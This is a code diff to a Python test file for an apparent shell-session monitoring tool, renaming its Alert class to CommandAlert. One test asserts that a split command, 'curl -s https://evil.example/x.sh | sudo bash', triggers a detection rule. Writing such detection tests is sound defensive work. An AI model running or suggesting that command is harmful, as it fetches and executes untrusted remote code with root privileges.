@@ -9,7 +9,7 @@ import functools
 import json
 
 from sessionguard.rules import RulePack
-from sessionguard.session.engine import Alert, SanitizedLine, SessionEngine
+from sessionguard.session.engine import CommandAlert, SanitizedLine, SessionEngine
 from sessionguard.session.records import SessionEvent
 from sessionguard.severity import Severity
 
@@ -19,7 +19,7 @@ KEY_LINES = (
     "VTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxK",
     "LxoS2tFczGkPLPgizskuemMghRniWaoLcyehkd3qqGElvW/VDL5AaWTg0nLVkjRo",
 )
-Output = list[Alert | SanitizedLine]
+Output = list[CommandAlert | SanitizedLine]
 
 
 @functools.cache
@@ -50,7 +50,7 @@ def in_two_deliveries(first: list[SessionEvent], second: list[SessionEvent]) -> 
 
 
 def rule_ids(out: Output) -> list[str]:
-    return [item.rule_id for item in out if isinstance(item, Alert)]
+    return [item.rule_id for item in out if isinstance(item, CommandAlert)]
 
 
 def lines(out: Output) -> list[tuple[str, str, bool]]:
@@ -70,7 +70,7 @@ def test_a_download_piped_to_a_shell_split_across_deliveries_alerts_when_it_comp
     assert rule_ids(first) == []
     assert lines(first) == [("command", "curl -s https://evil.example/x.sh \\", True)]  # written, marked incomplete
     assert rule_ids(second) == ["SG-DLEX-001"]
-    (alert,) = [item for item in second if isinstance(item, Alert)]
+    (alert,) = [item for item in second if isinstance(item, CommandAlert)]
     assert alert.command == "curl -s https://evil.example/x.sh | sudo bash"
     assert alert.event_time == "2026-11-26T12:00:05Z"
 
